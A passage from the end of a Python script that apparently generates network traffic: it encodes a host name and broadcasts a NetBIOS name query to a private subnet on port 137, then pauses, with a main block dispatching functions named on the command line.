        coded = b"".join(bytes([65 + (b >> 4), 65 + (b & 15)]) for b in name)
        s.sendto(os.urandom(2) + b"\1\x10\0\1\0\0\0\0\0\0 " + coded + b"\0\0 \0\1", ("172.22.40.255", 137))
        pause(3, 20, end)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
